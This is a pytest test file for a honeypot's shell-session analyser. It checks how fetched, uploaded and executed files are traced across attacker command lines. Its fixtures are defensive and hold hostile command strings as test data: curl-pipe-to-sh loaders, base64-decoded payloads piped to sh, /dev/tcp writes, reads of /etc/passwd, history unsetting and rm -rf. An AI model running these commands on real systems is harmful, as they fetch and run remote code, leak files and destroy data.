"""A session read as one shell would: what its lines tell about each other, in linear time and within bounds."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.shell import files as files_module
from decnet.shell import script as module
from decnet.shell.script import MAX_FACTS, Script, read_script
from decnet.shell.told import Transfer

LINES = st.lists(
    st.one_of(
        st.text(max_size=80),
        st.sampled_from(
            [
                "wget http://203.0.113.9/a.sh", "sh a.sh", "./a.sh", "cd /tmp", "cd ..", "(cd /opt; ./b)", "scp -t /opt/q",
                "C0755 12 plum", "passwd", "secret1", "N=a; ./$N", "for i in a b; do ./$i; done", "tar xzf a.tgz", "rm -rf *",
                "cat > x", "cat <<EOF > y\nz\nEOF", "echo 1 > .p", "cat .p", "mv a.sh /bin/q", "chmod +x *", "pushd /x", "popd",
                "gcc a.c", "curl http://203.0.113.9/x | sh", "> .f", "`./q`", "$(cat a.sh)", "'", '"', "cp a.sh b", "\\",
            ]
        ),
    ),
    max_size=12,
)  # fmt: skip


def told(lines: list[str], number: int = 0, **how: Any) -> dict[str, Any]:
    """What is told about the simple commands of a line (the last one), without how far the session has come."""
    found = read_script(lines, **how).facts[number - 1]
    values: dict[str, Any] = {}
    for facts in found.values():
        values |= {name: value for name, value in facts.values.items() if not name.startswith("session.")}
    return values


@pytest.mark.parametrize(
    ("lines", "paths"),
    [
        (["cd /opt", "wget http://203.0.113.9/a.sh"], ["/opt/a.sh"]),
        (["curl http://203.0.113.9/a > /tmp/k"], ["/tmp/k"]),
        (["for f in a b; do tftp -g -r $f 203.0.113.9; done"], ["/root/a"]),
        (["curl http://203.0.113.9/a"], None),
        (["wget -qO- http://203.0.113.9/a"], None),
    ],
)
def test_where_a_fetched_file_lies_is_told_unless_it_is_only_shown(
    lines: list[str], paths: list[str] | None
) -> None:
    assert told(lines).get("fetch.path") == paths
    assert ("fetch.source" in told(lines)) is (paths is not None)


@pytest.mark.parametrize(
    ("lines", "origins"),
    [
        (["wget http://203.0.113.9/a.sh", "sh a.sh"], ["fetched"]),
        (["wget -P /opt http://203.0.113.9/a.sh?x=1", "/opt/a.sh"], ["fetched"]),
        (["wget -qO/tmp/k http://203.0.113.9/a", "/tmp/k"], ["fetched"]),
        (["curl -sLo k http://203.0.113.9/a", "./k"], ["fetched"]),
        (["curl http://203.0.113.9/a > /tmp/k", "bash /tmp/k"], ["fetched"]),
        (["busybox tftp -g -l k -r a 203.0.113.9", "busybox sh k"], ["fetched"]),
        (["scp root@203.0.113.9:/x/a .", "./a"], ["fetched"]),
        (["git clone http://203.0.113.9/t/a.git", "cd a", "sh ../a"], ["fetched"]),
        (["cd /tmp && wget http://203.0.113.9/a", "cd /", "/tmp/a"], ["fetched"]),
        (["(cd /tmp; wget http://203.0.113.9/a)", "/tmp/a"], ["fetched"]),
        (["wget http://203.0.113.9/a", "cp a /usr/bin/b", "/usr/bin/b"], ["fetched", "copied"]),
        (["for f in a b c; do wget http://203.0.113.9/$f; done", "./c"], ["fetched"]),
        (["A=/tmp/x", "wget -O ${A} http://203.0.113.9/q", "perl $A"], ["fetched"]),
        (["dd of=/tmp/k", "/tmp/k"], ["uploaded"]),
        (["scp -r -t .", "C0644 1 a b", "sh './a b'"], ["uploaded"]),
        (["printf 'id;w' > k", ". ./k"], ["written"]),
        (["chmod 0755 ./k", "./k"], ["chmodded"]),
        (["chmod 640 ./k", "./k"], None),
        (["wget http://203.0.113.9/ls", "ls"], None),
        (["wget http://203.0.113.9/a", "sh /etc/a"], None),
        (["wget http://203.0.113.9/a", "cat a"], None),
    ],
)
def test_a_file_that_is_run_has_its_origin(lines: list[str], origins: list[str] | None) -> None:
    found = read_script(lines).facts[-1]
    said = [facts.values["exec.origin"] for facts in found.values() if "exec.origin" in facts.values]
    assert said == ([origins] if origins else [])


def test_a_fact_names_the_line_that_it_comes_from() -> None:
    script = read_script(["cd /tmp", "wget http://203.0.113.9/a.sh", "sh a.sh"])
    (facts,) = script.facts[-1].values()
    assert facts.because["exec.origin"] == "fetched by line 2: wget http://203.0.113.9/a.sh"
    assert facts.values["exec.via"] == "sh"


def test_what_comes_later_adds_to_earlier_lines() -> None:
    lines = ["/usr/lib/quonba", "/opt/quonba", "scp -t /opt/quonba", "/opt/quonba"]
    assert told(lines, 1) == {"exec.tried_dirs": 2, "exec.via": "direct", "later.exec": ["uploaded"]}
    assert told(lines, 2) == {"exec.tried_dirs": 2, "exec.via": "direct", "later.exec": ["uploaded"]}
    assert told(lines, 4) == {"exec.origin": ["uploaded"], "exec.via": "direct"}
    assert told(lines[:1], 1) == {"exec.tried_dirs": 1, "exec.via": "direct"}
    assert told(lines[:2], 1) == {"exec.tried_dirs": 2, "exec.via": "direct"}


def test_what_the_sensor_saw_come_counts_as_well() -> None:
    seen = [Transfer("uploaded", "/tmp/quonba", "", "ab" * 32)]
    assert told(["./quonba"], transfers=seen)["later.exec"] == ["uploaded"]
    assert "later.exec" not in told(["./other"], transfers=seen)


def test_what_the_sensor_saw_come_before_a_line_is_a_file_of_the_session() -> None:
    seen = [
        Transfer("uploaded", "pear", ts=10.0),
        Transfer("fetched", "/srv/plum", "http://203.0.113.9/p", ts=10.0),
    ]
    script = Script(seen)
    (facts,) = script.line("chmod +x /tmp/pear", 10.0).values()
    assert facts.values["arg.origin"] == ["uploaded"]
    assert facts.because["arg.origin"] == "the sensor saw pear come (uploaded)"
    (facts,) = script.line("/tmp/pear", 11.0).values()
    assert facts.values["exec.origin"] == ["uploaded", "chmodded"]
    (facts,) = script.line("rm /srv/plum http://203.0.113.9/p/pear", 12.0).values()
    assert facts.values["arg.origin"] == ["fetched"]
    values = Script(seen).line("rm /tmp/plum", 12.0)["rm /tmp/plum"].values
    assert "arg.origin" not in values, "elsewhere is another file"


def test_what_comes_after_a_line_or_nobody_knows_when_is_told_as_later() -> None:
    for ts, line in ((10.1, 10.0), (None, 10.0), (10.0, None)):
        script = Script([Transfer("uploaded", "pear", ts=ts)])
        (facts,) = script.line("sh /tmp/pear", line).values()
        assert "exec.origin" not in facts.values
        assert facts.values["later.exec"] == ["uploaded"]


def test_a_shell_fed_by_a_pipe_knows_where_its_text_came_from() -> None:
    assert told(["curl -s http://203.0.113.9/x | sh"])["stdin.origin"] == ["fetched"]
    assert told(["echo aWQK | base64 -d | sh"])["stdin.origin"] == ["decoded"]
    assert told(["wget http://203.0.113.9/x", "cat x | sh"])["stdin.origin"] == ["fetched"]
    assert "stdin.origin" not in told(["echo id | sh"])
    assert "stdin.origin" not in told(["ls > >(tee -a log)"]), "what is substituted is fed"


def test_a_prompt_takes_answers_and_ends_at_the_first_command() -> None:
    lines = ["passwd", "one", "two", "two", "three"]
    answers = [any("answer" in f.values for f in found.values()) for found in read_script(lines).facts]
    assert answers == [False, True, True, True, False]
    lines = ["passwd", "ls", "secret"]
    assert [any("answer" in f.values for f in found.values()) for found in read_script(lines).facts] == [
        False
    ] * 3
    (told_of,) = read_script(["echo x | passwd --stdin", "secret"]).facts[1].values()
    assert "answer" not in told_of.values


def test_what_is_made_executable_and_run_later_is_told_on_its_line() -> None:
    assert told(["chmod +x plum", "ls", "./plum"], 1) == {"arg.run_later": True}
    assert told(["chmod +x plum && bash -c ./plum"])["arg.run_later"] is True
    assert told(["chmod +x plum", "./fig"], 1) == {}


def test_text_that_a_shell_is_given_is_read_three_deep() -> None:
    assert told(["wget http://203.0.113.9/a", "sh -c 'cd /; sh -c /root/a'"])["exec.origin"] == ["fetched"]
    script = read_script(["eval eval eval eval eval ls"])
    assert script.capped == 1


def test_recon_and_work_are_counted_from_line_to_line() -> None:
    script = read_script(["uname -a; id", "ls", "wget http://203.0.113.9/a", "grep x y"])
    (last,) = script.facts[-1].values()
    assert last.values == {"session.worked": True, "session.recon": 2, "session.last_recon_lines": 3}


def test_files_and_facts_have_bounds_that_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files_module, "MAX_FILES", 2)
    script = read_script([f"wget http://203.0.113.9/{n}.sh" for n in range(3)])
    assert script.files.dropped == 1
    assert [file.path for file in script.files] == ["/root/0.sh", "/root/1.sh"]
    many = Script()
    many.line("; ".join(f"x{n}" for n in range(MAX_FACTS + 3)))
    assert (len(many.facts[0]), many.capped) == (MAX_FACTS, 3)


def test_names_that_wait_are_forgotten_at_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MAX_PENDING", 2)
    script = read_script(["./q1", "./q2", "./q3", "scp -t q1", "scp -t q3"])
    later = [any("later.exec" in f.values for f in found.values()) for found in script.facts]
    assert later == [True, False, False, False, False]


@settings(max_examples=300)
@given(LINES)
def test_no_session_is_refused(lines: list[str]) -> None:
    script = read_script(lines)
    assert len(script.facts) == len(lines)
    for found in script.facts:
        for facts in found.values():
            assert set(facts.because) <= set(facts.values)


PLAIN = st.lists(
    st.sampled_from(
        [
            "wget http://203.0.113.9/a.sh", "sh a.sh", "./a.sh", "cd /tmp", "cd ..", "mv a.sh q", "./q", "chmod +x a.sh", "rm a.sh",
            "cat > x", "./x", "echo 1 > .p", "cat .p", "curl -O http://203.0.113.9/b.tgz", "tar xzf b.tgz", "./c/d", "uname -a",
            "N=a.sh", "./$N",
        ]
    ),
    min_size=1,
    max_size=8,
)  # fmt: skip


@pytest.mark.parametrize(
    ("lines", "idle"),
    [
        (["id; rm -f x.sh; ls"], True),
        (["rm a; wget http://203.0.113.9/a; rm b"], None),
        (["wget http://203.0.113.9/a", "id; rm a"], None),
        (["id; ls"], None),
        (["echo 1 > /tmp/.p; rm /tmp/.p; rm -rf /tmp/loader.sh"], True),
    ],
)
def test_a_line_as_it_stands_tells_that_none_of_its_removals_follows_anything(
    lines: list[str], idle: bool | None
) -> None:
    facts = read_script(lines).facts[-1].get(lines[-1])
    assert (facts and facts.values.get("session.idle")) is idle


@settings(max_examples=300)
@given(PLAIN)
def test_a_session_on_one_line_tells_what_the_lines_tell(lines: list[str]) -> None:
    def flat(script: Script) -> list[tuple[str, tuple[str, ...]]]:
        return [
            (
                text,
                tuple(
                    sorted(
                        str(item) for name, item in facts.values.items() if not name.startswith("session.")
                    )
                ),
            )
            for found in script.facts
            for text, facts in found.items()
        ]

    apart = flat(read_script(lines))
    whole = "; ".join(lines)
    together = [(text, said) for text, said in flat(read_script([whole])) if text in lines or text != whole]
    latest = dict(apart)  # on one line the same text has one set of facts: the latest one's
    assert {text for text, _ in together} == set(latest)
    for text, said in together:
        if lines.count(text) == 1:
            assert said == latest[text], text


def test_the_time_is_linear() -> None:
    def cost(count: int) -> float:
        script, began = Script(), time.process_time()
        for n in range(count):
            script.line(
                f"wget http://203.0.113.9/a{n}; chmod +x a{n}; ./a{n}; cat b{n} > /tmp/x{n}; ./q{n}; rm -f *.tmp"
            )
        return time.process_time() - began

    small = min(cost(500) for _ in range(3))
    assert cost(4000) < 8 * small * 3


@pytest.mark.slow
@pytest.mark.timeout(120)
def test_a_hundred_thousand_lines_are_read() -> None:
    script = Script()
    for n in range(100_000):
        script.line(f"cd /tmp/{n % 7}; wget http://203.0.113.9/a{n}; ./a{n}")
    assert len(script.facts) == 100_000
    assert script.files.dropped == 100_000 - files_module.MAX_FILES


@pytest.mark.parametrize(
    "text",
    ["echo a; " * 50_000, "$a" * 200_000, "(" * 100_000, "for i in " + "x " * 50_000 + "; do ./$i; done"],
)
def test_one_long_line_is_no_trouble(text: str) -> None:
    began = time.process_time()
    Script().line(text)
    assert time.process_time() - began < 5.0


@pytest.mark.parametrize(
    ("lines", "idle"),
    [
        (["uname -a", "rm -rf /tmp/a"], True),
        (["sudo rm -rf /tmp/a"], True),
        (["xyzzy", "rm a"], True),
        (["rm -rf /tmp/a", "wget http://203.0.113.9/a", "rm b"], None),
        (["echo a > k", "rm b"], True),
        (["touch k; mkdir d", "rm b"], True),
        (["echo 'id; w' > k", "rm b"], None),
        (["echo a | passwd", "rm b"], None),
        (["unset HISTFILE; pkill a", "rm b"], None),
        (["./x", "rm b"], None),
        (["cat > k", "shred -u b"], None),
        (["uname -a", "ls"], None),
    ],
)
def test_a_removal_tells_that_nothing_was_done_before_it(lines: list[str], idle: bool | None) -> None:
    (facts,) = read_script(lines).facts[-1].values()
    assert facts.values.get("session.idle") is idle


@pytest.mark.parametrize(
    ("line", "trivial"),
    [
        ("echo 77 > /tmp/k", True),
        ("> /tmp/k", True),
        ("echo -n ok > /tmp/k", True),
        ("echo 'admin 54321' > /tmp/k", None),
        ("echo 7 > /dev/shm/.k", True),
        ("echo 7 >> /dev/.k", True),
        ("echo 7 > /dev/null", None),
        ("echo 7 > /dev/tcp/203.0.113.9/80", None),
        ("echo 7 > /dev/pts/0", None),
        (": > /tmp/k", True),
        ("cat << E > /tmp/k\n1\nE", True),
        ("./report > /tmp/k", None),
        ("pg_dump shop > /tmp/k", None),
        ("cat /etc/passwd > /tmp/k", None),
        ("echo 77 | sudo tee /tmp/k", None),
        ("echo 'id; reboot' > /tmp/k", None),
    ],
)
def test_a_file_is_a_probe_only_when_the_line_says_all_of_it(line: str, trivial: bool | None) -> None:
    assert told([line]).get("write.trivial") is trivial


def origin_of_last(lines: list[str], name: str = "exec.origin") -> list[str] | None:
    found = [f.values[name] for f in read_script(lines).facts[-1].values() if name in f.values]
    return found[0] if found else None


def test_an_archive_unpacked_into_the_root_makes_not_every_file_its_own() -> None:
    assert origin_of_last(["wget http://h.example/a.tgz", "tar xzf a.tgz -C /", "/etc/init.d/cron"]) is None
    assert origin_of_last(["wget http://h.example/a.tgz", "tar xzf a.tgz -C /q", "/q/x"]) == ["extracted"]


def test_a_copy_of_a_tool_does_what_the_tool_does_until_another_file_takes_its_name() -> None:
    lines = ["cp /usr/bin/wget /tmp/w", "/tmp/w -O /tmp/k http://h.example/k", "/tmp/k"]
    assert origin_of_last(lines) == ["fetched"]
    assert origin_of_last([lines[0], "cat > /tmp/w", *lines[1:]]) is None
    assert origin_of_last(["cp /srv/wget /tmp/w", *lines[1:]]) is None


def test_what_is_only_printed_is_not_brought_here() -> None:
    assert origin_of_last(["curl http://h.example/a"], "fetch.source") is None
    assert origin_of_last(["curl http://h.example/a | wc -l"], "fetch.source") is None
    assert origin_of_last(["curl http://h.example/a | grep -v x | sh"], "fetch.source") == [
        "http://h.example/a"
    ]
    assert origin_of_last(["curl http://h.example/a | grep x > f"], "fetch.source") == ["http://h.example/a"]
    assert origin_of_last(["curl -o f http://127.0.0.1/a"], "fetch.source") is None


def test_an_empty_file_is_a_probe_when_it_is_removed_as_it_is() -> None:
    assert origin_of_last(["touch /tmp/.z; rm /tmp/.z"], "write.trivial") is True
    assert (
        origin_of_last(["touch /tmp/.z; echo 'id; uname -a; w' > /tmp/.z; rm /tmp/.z"], "write.trivial")
        is None
    )
    assert origin_of_last(["touch /tmp/.z"], "write.trivial") is None


def test_a_tar_that_nobody_feeds_unpacks_what_the_client_sends() -> None:
    assert origin_of_last(["tar xzf - -C /q"], "stdin.origin") == ["client"]
    assert origin_of_last(["tar xzf - -C /q", "sh /q/go"]) == ["extracted"]
    assert origin_of_last(["cpio -i < a.cpio"], "stdin.origin") is None
    assert origin_of_last(["cat a.tar | tar x"], "stdin.origin") is None


def test_a_file_of_a_compilers_name_in_another_place_is_no_compiler() -> None:
    lines = ["wget http://h.example/k.zip", "unzip k.zip", "./k/go"]
    assert origin_of_last(lines) == ["extracted"]
